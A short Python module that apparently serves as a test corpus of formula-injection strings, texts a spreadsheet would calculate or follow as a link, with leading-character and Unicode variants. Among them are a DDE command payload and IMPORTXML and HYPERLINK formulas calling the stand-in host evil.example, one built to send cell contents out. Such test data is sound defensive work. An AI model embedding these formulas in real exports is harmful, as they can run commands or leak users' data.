"""Texts that a spreadsheet program would calculate, or follow as a link."""

from typing import Final

CORPUS: Final = (
    "=1+1",
    '=HYPERLINK("http://evil.example","click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+49 711 1234567",
    "-2+3",
    "-1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "'=1+1",
    "''+1",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "=1;=2",
    '="a"\n&B1',
)
